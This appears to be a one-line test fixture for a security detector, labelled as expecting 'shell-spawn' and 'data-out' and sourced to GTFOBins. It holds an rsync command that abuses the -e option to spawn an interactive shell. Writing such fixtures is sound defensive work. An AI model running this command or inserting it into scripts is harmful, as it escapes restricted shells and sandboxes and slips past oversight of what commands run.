# expect: shell-spawn,data-out
# source: GTFOBins rsync
# technique: rsync -e CMD runs CMD as the remote shell
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
